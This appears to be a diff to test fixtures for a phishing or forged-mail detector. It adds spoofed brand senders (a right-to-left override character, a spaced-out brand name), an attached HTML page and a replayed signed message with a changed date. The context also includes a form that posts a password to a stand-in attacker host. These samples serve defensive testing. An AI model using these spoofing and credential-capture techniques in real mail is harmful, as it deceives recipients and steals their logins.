@@ -422,6 +422,10 @@ def forged_senders():
         mailbox("メ\u2061ルカリ", "info@evil.example"), "【メルカリ】ご確認").sign("evil.example", key="other")
     yield "forged-name-cyrillic", lure(mailbox("\u0410mazon", "info@evil.example")).sign(
         "evil.example", key="other")
+    yield "forged-name-backwards", lure(mailbox("\u202enozamA", "info@evil.example")).sign(
+        "evil.example", key="other")
+    yield "forged-name-letter-by-letter", lure(mailbox("A m a z o n", "info@evil.example")).sign(
+        "evil.example", key="other")
     yield "forged-local-part", lure("amazon@evil.example").sign("evil.example", key="other")
     yield "forged-paidy-rakuten", lure(
         mailbox("Paidy", "info@mail.rakuten-card.co.jp"), "ご本人情報のご確認のお願い").sign("mail.rakuten-card.co.jp")
@@ -462,6 +466,9 @@ def forged_links():
     yield "forged-form", Message(
         AMAZON, FORGED_SUBJECT, "", '<form action="https://evil.example/p"><input type="password" name="p">'
         '<input type="submit" value="確認する"></form>')
+    m = lure().sign("amazon.co.jp", "none")
+    m.put("Content-Type", 'application/octet-stream; name="order.html"')
+    yield "forged-page-attached", m
     yield "forged-base", Message(
         AMAZON, FORGED_SUBJECT, "", '<base href="https://evil.example/"><p><a href="/ap/signin">'
         'サインインして確認する</a></p>')
@@ -471,6 +478,7 @@ def forged_proofs():
     """Proofs that prove nothing."""
     m = order().sign("amazon.co.jp")
     yield "forged-replay-subject", m.put("Subject", encoded("注文がキャンセルされました"))
+    yield "forged-replay-date", order().sign("amazon.co.jp").on_top("Date", "Sun, 15 Nov 2026 10:00:00 +0900")
     m = order().sign("amazon.co.jp")
     m.body = m.body.replace(b"2420", b"9999")
     yield "forged-replay-body", m
